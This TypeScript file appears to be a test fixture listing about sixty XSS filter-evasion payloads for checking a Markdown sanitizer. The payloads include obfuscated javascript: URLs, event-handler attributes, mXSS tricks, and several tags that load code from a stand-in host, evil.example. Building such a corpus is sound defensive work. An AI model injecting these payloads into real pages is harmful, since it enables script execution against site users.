/**
 * Known XSS payloads, in the spirit of the OWASP filter-evasion cheat sheet,
 * as an editor could paste them into a Markdown body.
 */
export interface XssCase {
  name: string;
  input: string;
}

const B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="; // <script>alert(1)</script>

export const xssCorpus: XssCase[] = [
  // Script elements
  { name: "script block", input: "<script>alert(1)</script>" },
  { name: "script with src", input: '<script src="https://evil.example/x.js"></script>' },
  { name: "upper-case script", input: "<SCRIPT>alert(1)</SCRIPT>" },
  { name: "inline script in a paragraph", input: "متن <script>alert(1)</script> متن" },
  { name: "inline unclosed script", input: "متن <script>alert(1)" },
  { name: "nested broken script tags", input: "<scr<script>ipt>alert(1)</scr</script>ipt>" },
  { name: "script after bogus quotes", input: '<img """><script>alert(1)</script>">' },
  // Event handlers
  { name: "img onerror", input: "<img src=x onerror=alert(1)>" },
  { name: "mixed-case IMG ONERROR", input: '<IMG SRC="x" ONERROR="alert(1)">' },
  { name: "double < img", input: "<p><<img src=x onerror=alert(1)//></p>" },
  { name: "comment breakout", input: '<!--<img src="--><img src=x onerror=alert(1)//">' },
  { name: "svg onload (unclosed)", input: "<svg onload=alert(1)>" },
  { name: "script inside svg", input: "<svg><script>alert(1)</script></svg>" },
  { name: "svg animate onbegin", input: "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>" },
  { name: "details ontoggle", input: "<details open ontoggle=alert(1)>x</details>" },
  { name: "body onload", input: "<body onload=alert(1)>" },
  { name: "input autofocus onfocus", input: "<input autofocus onfocus=alert(1)>" },
  { name: "select autofocus onfocus", input: "<select autofocus onfocus=alert(1)><option>x</option></select>" },
  { name: "textarea autofocus onfocus", input: "<textarea autofocus onfocus=alert(1)>x</textarea>" },
  { name: "video source onerror", input: "<video><source onerror=alert(1)></video>" },
  { name: "marquee onstart", input: "<marquee onstart=alert(1)>x</marquee>" },
  { name: "button onclick", input: "<button onclick=alert(1)>x</button>" },
  { name: "style attribute with javascript url", input: '<div style="background:url(javascript:alert(1))">x</div>' },
  // javascript:, vbscript:, data: URLs in raw HTML
  { name: "javascript: href", input: '<a href="javascript:alert(1)">x</a>' },
  { name: "mixed-case scheme", input: '<a href="JaVaScRiPt:alert(1)">x</a>' },
  { name: "tab entity in scheme", input: '<a href="jav&#x09;ascript:alert(1)">x</a>' },
  { name: "newline entity in scheme", input: '<a href="jav&#x0A;ascript:alert(1)">x</a>' },
  { name: "literal tab in scheme", input: '<a href="jav\tascript:alert(1)">x</a>' },
  { name: "leading space and control character", input: '<a href=" &#14; javascript:alert(1)">x</a>' },
  {
    name: "decimal entities",
    input: '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  },
  {
    name: "zero-padded entities, no semicolons",
    input:
      '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  },
  {
    name: "hex entities, no semicolons",
    input: '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  },
  { name: "&colon; entity", input: '<a href="javascript&colon;alert(1)">x</a>' },
  { name: "one encoded letter", input: '<a href="javas&#99;ript:alert(1)">x</a>' },
  { name: "vbscript: href", input: '<a href="vbscript:msgbox(1)">x</a>' },
  { name: "data:text/html href", input: `<a href="data:text/html;base64,${B64_SCRIPT}">x</a>` },
  { name: "javascript: img src", input: '<img src="javascript:alert(1)">' },
  { name: "data: svg img src", input: '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">' },
  // Markdown syntax
  { name: "markdown link", input: "[x](javascript:alert(1))" },
  { name: "markdown link, upper case", input: "[x](JAVASCRIPT:alert(1))" },
  { name: "markdown image", input: "![x](javascript:alert(1))" },
  { name: "markdown reference link", input: "[x][evil]\n\n[evil]: javascript:alert(1)" },
  { name: "markdown autolink", input: "<javascript:alert(1)>" },
  { name: "markdown data: link", input: `[x](data:text/html;base64,${B64_SCRIPT})` },
  // Embedding and document-level elements
  { name: "iframe javascript: src", input: '<iframe src="javascript:alert(1)"></iframe>' },
  { name: "iframe left open", input: '<iframe src="https://evil.example/">' },
  { name: "iframe srcdoc", input: '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>' },
  { name: "object data", input: '<object data="javascript:alert(1)"></object>' },
  { name: "object data: left open", input: `<object data="data:text/html;base64,${B64_SCRIPT}">` },
  { name: "embed", input: '<embed src="javascript:alert(1)">' },
  { name: "applet", input: '<applet code="x.class" codebase="javascript:alert(1)"></applet>' },
  {
    name: "form action and button formaction",
    input: '<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>',
  },
  { name: "meta refresh", input: '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">' },
  { name: "style @import", input: "<style>@import 'https://evil.example/x.css';</style>" },
  { name: "link stylesheet", input: '<link rel="stylesheet" href="https://evil.example/x.css">' },
  { name: "base href", input: '<base href="https://evil.example/">' },
  { name: "svg xlink:href", input: '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>' },
  {
    name: "math xlink:href",
    input: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  },
  { name: "math/style mutation (mXSS)", input: "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>" },
  // Parser-state tricks
  { name: "template content", input: "<template><img src=x onerror=alert(1)></template>" },
  { name: "noscript attribute breakout", input: '<noscript><p title="</noscript><img src=x onerror=alert(1)>">' },
  { name: "xmp attribute breakout", input: '<xmp><p title="</xmp><img src=x onerror=alert(1)>">' },
];
